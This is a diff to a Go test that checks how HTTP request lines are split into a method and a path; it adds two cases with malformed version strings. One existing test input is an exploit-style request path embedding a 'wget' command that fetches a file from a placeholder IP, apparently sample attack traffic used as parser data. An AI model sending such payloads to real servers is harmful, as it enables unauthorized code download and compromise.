@@ -16,6 +16,8 @@ func TestRequestIsAllOfIt(t *testing.T) {
 			"GET", "/i.php?s=/x&v[]= 'wget http://192.0.2.1/x -O .a'",
 		},
 		"POST /a HTTP/1.1 HTTP/2.0": {"POST", "/a HTTP/1.1"},
+		"GET /a?b=1 HTTP 1.1":       {"GET", "/a?b=1"},
+		"GET /a HTTP 1.12":          {"GET", "/a HTTP 1.12"},
 		"GET /HTTP/1.1 x":           {"GET", "/HTTP/1.1 x"},
 		"/index.html":               {"GET", "/index.html"},
 	}
